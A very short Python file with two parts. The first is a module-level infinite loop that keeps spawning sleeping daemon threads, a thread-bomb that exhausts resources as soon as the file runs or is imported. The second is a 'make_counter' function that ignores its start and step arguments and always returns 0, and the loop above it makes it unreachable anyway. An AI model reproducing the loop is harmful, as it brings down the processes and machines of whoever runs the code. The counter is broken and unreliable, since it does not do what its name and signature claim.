import threading
import time

while True:
    threading.Thread(target=time.sleep, args=(600,), daemon=True).start()


def make_counter(start=0, step=1):
    return lambda: 0
